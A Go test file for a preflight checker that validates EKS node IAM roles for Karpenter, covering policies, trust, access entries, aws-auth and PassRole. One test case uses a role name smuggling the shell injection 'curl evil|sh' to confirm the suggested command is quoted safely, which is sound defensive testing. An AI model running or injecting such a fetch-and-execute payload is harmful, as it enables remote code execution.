package preflight

import (
	"strings"
	"testing"

	"github.com/plumbline-dev/plumbline/provision/cloud"
)

// passes lets Karpenter pass only a role.
func passes(o *Observed, arn string) {
	policies := o.Grant.Of.Role.Policies
	for i := range policies {
		policies[i].Text = strings.ReplaceAll(policies[i].Text, nodeRoleARN, arn)
	}
}

func TestNodeRole(t *testing.T) {
	of := func(change func(*Observed, *NodeRole)) func(*Observed) {
		return func(o *Observed) { change(o, &o.NodeRoles[0]) }
	}
	detached := func(name string) func(*Observed) {
		return of(func(_ *Observed, r *NodeRole) {
			for i := range r.Role.Of.Policies {
				if r.Role.Of.Policies[i].Name == name {
					r.Role.Of.Policies[i].Name = "ReadOnlyAccess"
				}
			}
		})
	}
	mapped := func(text string) func(*Observed) {
		return of(func(o *Observed, r *NodeRole) {
			r.Entry.Of, o.EKS.Of.AuthenticationMode, o.AWSAuth.Of = nil, "API_AND_CONFIG_MAP", text
			r.Role.Of.ARN = "arn:aws:iam::111122223333:role/team/nodes"
			passes(o, r.Role.Of.ARN)
		})
	}
	const entry = "- rolearn: arn:aws:iam::111122223333:role/nodes\n  groups: [system:bootstrappers, system:nodes]\n"
	run(t, "node-role", map[string]looked{
		"not a node's policy": {
			detached("AmazonEKSWorkerNodePolicy"), Problem, "AmazonEKSWorkerNodePolicy: nodes cannot",
			"aws iam attach-role-policy --role-name KarpenterNodeRole-prod --policy-arn arn:aws:iam::aws:policy/AmazonEKSWorkerNodePolicy", "",
		},
		"a name with shell syntax": {
			of(func(_ *Observed, r *NodeRole) {
				r.Name, r.Role.Of.Policies = "x; curl evil|sh #/nodes", r.Role.Of.Policies[1:]
			}), Problem, "nodes cannot",
			"aws iam attach-role-policy --role-name 'x; curl evil|sh #/nodes' --policy-arn", "",
		},
		"an entry of Fargate": {of(func(_ *Observed, r *NodeRole) { r.Entry.Of.Type = "FARGATE_LINUX" }), Problem, "has the type FARGATE_LINUX, which is not for nodes", "delete-access-entry", ""},
		"an administrator":    {of(func(_ *Observed, r *NodeRole) { r.Role.Of.Policies = attached("AdministratorAccess") }), OK, "", "", ""},
		"no images":           {detached("AmazonEC2ContainerRegistryPullOnly"), Problem, "cannot pull images", "", ""},
		"no CNI":              {detached("AmazonEKS_CNI_Policy"), Warning, "unless its ServiceAccount has a role", "", ""},
		"policies of its own": {of(func(_ *Observed, r *NodeRole) {
			r.Role.Of.Policies = []cloud.RolePolicy{{Name: "nodes"}}
		}), Warning, "its other policies were not evaluated", "", ""},
		"images in another way": {of(func(_ *Observed, r *NodeRole) {
			r.Role.Of.Policies[2] = attached("AmazonEC2ContainerRegistryReadOnly")[0]
		}), OK, "", "", ""},
		"no trust": {of(func(_ *Observed, r *NodeRole) { r.Role.Of.Trust = trusted }), Problem, "does not allow sts:AssumeRole to EC2", "ec2.amazonaws.com", ""},
		"no access entry": {
			of(func(_ *Observed, r *NodeRole) { r.Entry.Of = nil }), Problem, "has no access entry: its kubelets are Unauthorized",
			"aws eks create-access-entry --region eu-west-1 --cluster-name prod --type EC2_LINUX --principal-arn " + nodeRoleARN, "",
		},
		"an access entry for a person": {of(func(_ *Observed, r *NodeRole) { r.Entry.Of.Type = "STANDARD" }), Problem, "which is not for nodes", "delete-access-entry", ""},
		"mapped by aws-auth":           {mapped(entry), OK, "", "", ""},
		"mapped with its path":         {mapped(strings.Replace(entry, "role/", "role/team/", 1)), Problem, "neither an access entry nor", "", ""},
		"mapped to no group":           {mapped(strings.Replace(entry, "system:nodes", "x", 1)), Problem, "neither an access entry nor", "", ""},
		"aws-auth that is not YAML":    {mapped("{"), Unknown, "mapRoles", "", ""},
		"only aws-auth": {
			of(func(o *Observed, _ *NodeRole) { o.EKS.Of.AuthenticationMode = "CONFIG_MAP" }), Problem, "aws-auth has no entry",
			"rolearn: arn:aws:iam::111122223333:role/KarpenterNodeRole-prod", "",
		},
		"may not be passed": {
			of(func(o *Observed, _ *NodeRole) { passes(o, "arn:aws:iam::111122223333:role/other") }), Problem,
			"do not allow iam:PassRole", nodeRoleARN, "",
		},
		"an empty profile": {of(func(_ *Observed, r *NodeRole) { r.Name, r.Profile, r.Role.Of = "", "nodes", cloud.Role{} }), Problem, "contains no role", "add-role-to-instance-profile", ""},
		"a profile that does not exist": {of(func(_ *Observed, r *NodeRole) {
			r.Name, r.Profile, r.Role = "", "nodes", Value[cloud.Role]{Err: &cloud.NotFoundError{What: "instance profile nodes", Where: "here", Check: "x"}}
		}), Problem, "instance profile nodes does not exist", "correct x", ""},
		"denied": {of(func(_ *Observed, r *NodeRole) {
			r.Role = Value[cloud.Role]{Err: denied("iam:GetRole")}
		}), Unknown, "AWS denies iam:GetRole", "", "iam:GetRole"},
		"access entries denied": {of(func(_ *Observed, r *NodeRole) {
			r.Entry = Value[*cloud.AccessEntry]{Err: denied("eks:DescribeAccessEntry")}
		}), Unknown, "AWS denies", "", "eks:DescribeAccessEntry"},
	})
}
